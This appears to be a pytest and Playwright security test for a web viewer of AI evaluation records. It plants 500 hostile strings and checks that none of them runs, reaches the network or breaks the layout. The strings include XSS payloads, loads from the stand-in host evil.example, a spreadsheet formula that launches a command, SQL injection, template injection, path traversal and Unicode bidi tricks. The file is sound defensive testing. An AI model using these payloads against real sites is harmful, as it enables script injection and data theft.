"""500 hostile outputs in a real journal: none of them runs, leaves the page, reaches the network or breaks the layout."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from tests.report.planted import Planted, refuse
from tests.web.conftest import run_of
from tests.web.serving import Viewer, viewing
from tocsin.types import Answer, Case, Message

_RUN = "window.__ran=1;parent.__ran=1;alert(1)"
_MARKUP = [
    "<script>{run}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror='{run}'>", "<svg onload='{run}'>",
    "<svg><script>{run}</script></svg>", "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<body onload='{run}'>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe src='javascript:{run}'></iframe>",
    "<a href='javascript:{run}' autofocus onfocus='{run}'>x</a>", "<form action='http://evil.example'><button>x</button></form>",
    "<input autofocus onfocus='{run}'>", "<details open ontoggle='{run}'><summary>x</summary></details>",
    "<video><source onerror='{run}'></video>", "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={run}>'>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>", "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>*{{display:none}}@import 'http://evil.example'</style>", "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{run}'>", "<template><script>{run}</script></template>",
    "</div></main></body></html><script>{run}</script>", "</textarea></title></style></script><script>{run}</script>",
    "<!--><script>{run}</script-->", "<![CDATA[<script>{run}</script>]]>", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "{{{{7*7}}}} {{% for x in ().__class__.__base__.__subclasses__() %}}x{{% endfor %}}", "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "&lt;script&gt;{run}&lt;/script&gt; &#x3c;script&#x3e;", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "javascript:{run}", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "[x](javascript:{run}) ![x](http://evil.example/i.png)",
    "http://evil.example/?leak", "=cmd|' /C calc'!A0", "'; DROP TABLE words; --", "NEAR(a b) * \" ' ^ : {{}}",
]  # fmt: skip
_TEXT = [
    "\u202e\u202dgnp.exe\u2066\u2067\u2068\u2069\u061c", "\u200b\u200c\u200d\ufeff\u2060\u00ad",
    "\x00\x01\x08\x1b[2J\x1b]0;x\x07\x9b31m",
    "\ud800 \udfff \udc00\ud800", "\ufffe\uffff\U000e0041", "e" + "\u0301" * 3000, "\u0489" * 400, "﷽" * 300,
    "😀‍👩‍👧‍👦" * 60, "𒐫" * 60,
    "שלום 123 עולם " * 30, "مرحبا " * 200, "W" * 5000, "\u00a0" * 3000, "\t" * 500, "\n" * 400, "\r\x0b\x0c\x85\u2028\u2029x",
    "ก็็็็็็็็็็็็็็็็็็็็" * 40, "คำ" * 900, "漢字" * 2000,
]  # fmt: skip
_WRAPS = ["{}", "\"'>{}", "</bdi></div>{}", "<!-- {} -->", "`{}`", "{}\u202e", "<b>{}", "x{}\x00"]
EACH = 25


def outputs() -> list[str]:
    """500 different ones, and a huge one behind them."""
    plain = [text.format(run=_RUN) for text in _MARKUP] + _TEXT
    found = list(dict.fromkeys(wrap.format(text) for wrap in _WRAPS for text in plain))
    found += [f"<img src=x id=n{n} onerror='{_RUN}'>" for n in range(500 - len(found))]
    return found[:500]


def planted() -> list[Planted]:
    """Twenty dialogues that hold them turn by turn, as answers and prompts, and in every other place that holds a text."""
    found = []
    texts = outputs()
    for number in range(20):
        mine = texts[number * EACH : (number + 1) * EACH]
        history = tuple(
            Message("assistant" if n % 2 else "user", text.encode("utf-8", "replace").decode())
            for n, text in enumerate(mine)
        )
        sound = [text.encode("utf-8", "replace").decode() for text in mine]
        case = Case(
            id=f"{sound[0]}#{number}", prompt=sound[1], system=sound[2], history=history, hazard=sound[3], request=sound[4],
            criteria=sound[5], cluster=sound[6], language=sound[7][:200],
        )  # fmt: skip
        found.append(
            Planted(case, "unsafe", Answer("\n".join(sound), reasoning=sound[8], model=sound[9], finish=sound[10]),
                    detail="\n".join(sound),
                    reason=sound[11])
        )  # fmt: skip
    huge = "<script>" + "x" * 200_000
    return [*found, Planted(refuse(1, huge), "unsafe", Answer(huge, reasoning=huge), detail=huge)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, base: dict[str, Any]) -> Iterator[Viewer]:
    folder = run_of(tmp_path_factory.mktemp("hostile") / "run", planted(), base)
    evil = f"</title><script>{_RUN}</script>\u202e"
    manifest = json.loads((folder / "run.json").read_text(encoding="utf-8"))
    manifest |= {"run": evil, "status": evil}
    manifest["targets"] = [manifest["targets"][0] | {"name": evil}]
    (folder / "run.json").write_text(json.dumps(manifest), encoding="utf-8")
    db = sqlite3.connect(folder / "journal.sqlite")
    db.execute("UPDATE records SET judge = ?, choice = ?", (evil, evil))
    for number, text in enumerate(outputs()[::25], 1):
        text = text.encode("utf-8", "replace").decode()
        db.execute("UPDATE cases SET benchmark = ? WHERE id = ?", (text, number))
        db.execute("UPDATE cells SET attack = ? WHERE id = ?", (text, number))
    # An answer in broken UTF-8, one with lone surrogates as JSON writes them, and one that is no JSON.
    for cell, body in (
        (1, b'{"text":"\xff\xfe<script>"}'),
        (2, b'{"text":"\\ud800<script>\\udfff"}'),
        (3, b"<script>"),
    ):
        db.execute("UPDATE calls SET answer = ?, branch = ? WHERE cell = ?", (body, "/1/<script>", cell))
    db.execute("UPDATE calls SET role = ? WHERE cell = 4", (evil,))
    db.commit()
    db.close()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TOCSIN_CACHE", str(folder.parent / "cache"))
        with viewing(folder) as viewer:
            yield viewer


@pytest.fixture(scope="module")
def watched(chromium: Browser, hostile: Viewer) -> Iterator[Page]:
    """A page on which everything that must not happen is noted, with every record revealed."""
    context = chromium.new_context()
    context.set_default_timeout(15_000)
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => { (window.__broken ??= []).push(e.violatedDirective) })"
    )
    page = context.new_page()
    page.goto(hostile.first)
    (cookie,) = [one for one in context.cookies() if one["name"].startswith("tocsin")]
    hostile.cookie = f"{cookie['name']}={cookie['value']}"
    run = next(iter(hostile.state.runs))
    token = hostile.form_token(f"/r/{run}/1")
    for cell in range(1, 22):
        assert hostile.send(f"/r/{run}/{cell}/reveal", {"form_token": token}).status == 303
    yield page
    context.close()


@pytest.mark.parametrize("width", [1280, 400])
def test_no_hostile_output_runs_or_breaks_the_layout(watched: Page, hostile: Viewer, width: int) -> None:
    asked, dialogs, errors = list[str](), list[str](), list[str]()
    watched.on("request", lambda request: asked.append(request.url))
    watched.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    watched.on("pageerror", lambda error: errors.append(str(error)))
    watched.set_viewport_size({"width": width, "height": 900})
    run = next(iter(hostile.state.runs))
    seen = 0
    for target in [
        "/",
        "/?sort=answered-down&q=script",
        *(f"/r/{run}/{cell}" for cell in range(1, 22)),
        f"/r/{run}/21?whole=1",
    ]:
        reply = watched.goto(hostile.origin + target, wait_until="load")
        assert reply is not None
        assert reply.status == 200, target
        told = watched.evaluate(
            "({ran: window.__ran ?? null, broken: window.__broken ?? [], wide: document.documentElement.scrollWidth,"
            " strange: document.querySelectorAll('main :is(script,style,iframe,object,embed,svg,math,base,meta,link)').length,"
            " handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/.test(a.name))).length,"
            " links: [...document.querySelectorAll('[href], [src], [action]')].map(e => e.href || e.src || e.action),"
            " styled: document.querySelectorAll('[style]').length, shown: document.querySelectorAll('.said').length,"
            " first: document.querySelector('main').getBoundingClientRect().top, words: document.body.innerText.includes('49 ')})"
        )
        assert told["ran"] is None, target
        assert told["broken"] == [], target
        assert told["wide"] <= width, target
        assert (told["strange"], told["handlers"], told["styled"]) == (0, 0, 0), target
        assert all(link.startswith((hostile.origin, "data:,")) for link in told["links"]), target
        assert told["first"] < 200, target
        seen += told["shown"]
    assert seen > 500
    assert dialogs == errors == []
    assert all(url.startswith((hostile.origin, "data:,")) for url in asked), asked


def test_every_hostile_output_is_on_a_page(watched: Page, hostile: Viewer) -> None:
    run = next(iter(hostile.state.runs))
    text = hostile.ask(f"/r/{run}/5").text
    assert text.count("⟨U+202E⟩") >= 1
    assert "&lt;script&gt;" in "".join(hostile.ask(f"/r/{run}/{cell}").text for cell in range(4, 7))
    whole = hostile.ask(f"/r/{run}/21?whole=1").text
    assert len(whole) > 600_000
    assert len(hostile.ask(f"/r/{run}/21").text) < 200_000


@pytest.mark.parametrize(
    "query",
    ['"', "'", "*", "NEAR(", "a AND", "NOT", "-", '""', "^x", "{asked}: x", "asked:x", "a" * 5000,
     "\x00", "%ff%fe", "%ed%a0%80", "-x", "((", "x OR",
     "' OR 1=1 --", "{{7*7}}", "😀", "\u202e", "a\nb", '"unclosed', "+", "\\", ";", "ſ", "İ", "🇨🇳", "न्", "﷽"],
)  # fmt: skip
def test_no_search_is_a_fault(watched: Page, hostile: Viewer, query: str) -> None:
    target = f"/?q={query if query.startswith('%') else quote(query)}"
    reply = hostile.ask(target)
    assert reply.status == 200
    assert "<strong>" in reply.text


@pytest.mark.parametrize(
    "address",
    ["?after=x", "?after=nan~0~0", "?after=inf~9~9", "?after=1~2", "?after=1e999~-1~-1", "?score_from=nan",
     "?score_from=1e400&score_to=-1",
     "?cost_from=abc", "?sort=drop", "?in=words", "?repeat=%EF%BC%91", "?repeat=99999999999999999999", "?attempt=-1",
     "?flag=x&flag=blocked",
     "?run=../..", "?outcome=%00", "?hazard=%ff", "?model=<script>", "?attempt=%C2%B2",
     "?&&&=&=x", "?calls=-1", "?wanted=" + "x" * 3000],
)  # fmt: skip
def test_no_address_is_a_fault(watched: Page, hostile: Viewer, address: str) -> None:
    for path in ("/", "/live", f"/r/{next(iter(hostile.state.runs))}/1"):
        reply = hostile.ask(f"{path}{address}")
        assert reply.status == 200, path
        assert "<script>" not in reply.text.replace('<script src="/static/', "")


def test_there_are_500_of_them() -> None:
    assert len({*outputs()}) == 500
